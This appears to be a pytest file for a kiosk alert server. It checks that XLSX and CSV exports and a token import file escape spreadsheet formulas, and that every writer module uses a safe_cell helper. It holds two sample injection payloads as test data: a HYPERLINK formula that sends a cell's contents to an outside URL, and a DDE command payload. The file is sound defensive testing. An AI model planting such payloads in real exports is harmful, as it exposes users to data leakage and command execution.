"""Downloads never carry a live formula: every CSV/XLSX cell goes through domain/spreadsheet.safe_cell (issue 20, 4)."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kiosk_server.extensions import db
from kiosk_server.models import Alert, AlertUnit
from kiosk_server.services.reports import posting
from tests.conftest import COMMUNE, bearer
from tests.report_helpers import seed, vn

HEADLINE = '=HYPERLINK("http://x"&B2,"Bấm")'
SCREEN = "=cmd|' /C calc'!A0"
PACKAGE = Path(__file__).resolve().parents[2] / "kiosk_server"


def _raise_alert(headline: str) -> None:
    at = vn("2026-04-02T09:00:00")
    alert = Alert(identifier="test-formula", sender="upstream-cap", sent_at=at, created_at=at, headline=headline,
                  hazard="flood", level=3, unit_codes=[COMMUNE], expires_at=at + timedelta(hours=6))
    alert.areas = [AlertUnit(unit_code=COMMUNE)]
    db.session.add(alert)
    db.session.commit()


@pytest.mark.vn_days  # the report's period, at every edge of a Viet Nam day (tests/clock.py)
def test_an_alert_headline_written_as_a_formula_is_text_in_the_summary_workbook(client, tokens, officers):
    seed(officers["editor"].id)
    _raise_alert(HEADLINE)

    response = client.get("/api/v1/reports/summary", headers=bearer(tokens["viewer"]),
                          query_string={"unit": COMMUNE, "from": "2026-01-01", "to": "2026-06-30", "format": "xlsx"})

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    headlines = [row[1] for row in book.worksheets[1].iter_rows(min_row=2, values_only=True)]
    assert "'" + HEADLINE in headlines
    row = next(r for r in book.worksheets[1].iter_rows(min_row=2) if r[1].value == "'" + HEADLINE)
    assert row[1].data_type == "s"
    assert isinstance(row[0].value, int) and isinstance(row[4].value, int), "ids and counts stay numbers"
    figures = {r[3]: r[2] for r in book.worksheets[0].iter_rows(values_only=True) if r and len(r) > 3}
    assert figures["notices.published"] == 3


def test_a_screen_named_as_a_formula_is_text_in_the_posting_record_csv():
    record = {"kiosks": [{"kiosk_id": 7, "name": SCREEN, "first_shown": "2026-04-02T09:00:00+07:00",
                          "last_shown": "2026-04-02T10:00:00+07:00", "plays": 3, "seconds_shown": 90.0,
                          "chain": None, "unsealed_plays": 3}]}

    rows = list(csv.reader(io.StringIO(posting.csv_bytes(record).decode("utf-8-sig"))))

    assert rows[1] == ["7", "'" + SCREEN, "2026-04-02T09:00:00+07:00", "2026-04-02T10:00:00+07:00", "3", "90.0",
                       "", "", "3"]


def test_a_screen_named_as_a_formula_is_text_in_the_tokens_file(client, auth, officers):
    auth.login("bientap@example.vn")
    text = f'name,unit_code\n"{SCREEN}",{COMMUNE}\n'
    response = client.post("/admin/kiosks/import", content_type="multipart/form-data", data={
        "csrf_token": auth.csrf("/admin/kiosks/import"), "answer": "file",
        "file": (io.BytesIO(text.encode("utf-8")), "man-hinh.csv")})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [(r["name"], r["unit_code"]) for r in rows] == [("'" + SCREEN, COMMUNE)]
    assert rows[0]["token"].startswith("kt_")


WRITER = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|Workbook\(")


def test_every_module_that_writes_a_spreadsheet_uses_the_one_helper():
    writers = [path for path in PACKAGE.rglob("*.py") if WRITER.search(path.read_text(encoding="utf-8"))]
    forgetful = [str(path.relative_to(PACKAGE)) for path in writers
                 if not re.search(r"\bsafe_(cell|row)\(", path.read_text(encoding="utf-8"))]

    assert writers, "the pattern still finds the writers"
    assert forgetful == [], "write every cell through kiosk_server.domain.spreadsheet.safe_cell / safe_row"
